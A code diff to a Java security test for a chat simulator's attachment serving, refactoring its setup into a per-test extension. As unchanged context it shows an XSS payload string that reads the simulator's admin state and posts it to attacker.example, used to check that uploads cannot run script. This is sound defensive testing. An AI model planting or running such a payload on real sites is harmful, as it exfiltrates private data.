@@ -6,9 +6,9 @@ import com.bevatel.simulator.Http;
 import com.fasterxml.jackson.databind.JsonNode;
 import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
-import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
 
 /**
  * Issue 14 §3: an upload is served from the simulator's own origin, where its admin API is, so it
@@ -16,6 +16,7 @@ import org.junit.jupiter.api.Test;
  * shown inline (images, PDF) is never sniffed into something else; and every file comes with a
  * policy under which no script runs.
  */
+@ExtendWith(WorldPerTest.class)
 class AttachmentServingTest {
     private static final String SCRIPT = "<script>fetch('/_simulator/state').then(r => r.text())"
             + ".then(t => fetch('https://attacker.example/', {method: 'POST', body: t}))</script>";
@@ -25,13 +26,7 @@ class AttachmentServingTest {
 
     @BeforeEach
     void start() {
-        world = new World();
         messages = Http.account("/conversations/" + world.conversation("Alice") + "/messages");
-    }
-
-    @AfterEach
-    void stop() {
-        world.close();
     }
 
     /** Posts one file as a message's attachment and answers its download. */
